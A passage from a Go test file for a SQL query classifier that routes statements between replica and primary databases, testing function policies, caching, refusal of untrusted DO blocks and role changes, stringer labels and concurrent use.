		if d := c.Classify(sql, Policy{}); d.Refusal == nil {
			t.Fatalf("untrusted DO allowed")
		}
	}
	q := `SELECT my_stable(4711)`
	for i := 0; i < 3; i++ {
		if d := c.Classify(q, Policy{Functions: testFunctions}); d.Target != Replica {
			t.Fatalf("stable function routed %s", d.Target)
		}
		if d := c.Classify(q, Policy{}); d.Target != Primary || len(d.UnknownFunctions) != 1 {
			t.Fatalf("unknown function routed %s %v", d.Target, d.UnknownFunctions)
		}
		// The same shape with another literal comes from the normalized cache.
		if d := c.Classify(`SELECT my_stable(42)`, Policy{Functions: testFunctions}); d.Target != Replica {
			t.Fatalf("stable function routed %s", d.Target)
		}
	}
}

func TestRefusalIsError(t *testing.T) {
	d := NewClassifier(Options{}).Classify(`SET ROLE postgres`, Policy{})
	var err error = d.Refusal
	if err == nil || err.Error() == "" {
		t.Fatal("refusal is not a usable error")
	}
	d.Refusal.Message = "mutated"
	if d2 := NewClassifier(Options{}).Classify(`SET ROLE postgres`, Policy{}); d2.Refusal.Message == "mutated" {
		t.Fatal("refusal shared between decisions")
	}
}

func TestStringers(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Reasons() {
		s := r.String()
		if s == "" || seen[s] {
			t.Errorf("reason %d: bad or duplicate label %q", r, s)
		}
		seen[s] = true
	}
	for e := TxNone; e < numTxEffects; e++ {
		if e.String() == "" {
			t.Errorf("tx %d has no name", e)
		}
	}
	for _, s := range []string{Replica.String(), Primary.String(), HintNone.String(), ForcePrimaryOnce.String(),
		SessionPrimary.String(), SessionAuto.String(), Stable.String(), (QualifiedName{"a", "b"}).String()} {
		if s == "" {
			t.Error("empty name")
		}
	}
}

func TestConcurrentClassify(t *testing.T) {
	c := NewClassifier(Options{CacheSize: 64})
	done := make(chan struct{})
	for w := 0; w < 8; w++ {
		go func(w int) {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 200; i++ {
				tc := classifyCases[(i*7+w)%len(classifyCases)]
				p := Policy{TrustedRole: tc.trusted, Functions: testFunctions}
				if tc.noFuncs {
					p.Functions = nil
				}
				if d, u := c.Classify(tc.sql, p), classifyUncached(tc.sql, p); !decisionsEqual(d, u) {
					t.Errorf("%q: concurrent %+v != uncached %+v", tc.sql, d, u)
				}
			}
		}(w)
	}
	for w := 0; w < 8; w++ {
		<-done
	}
}
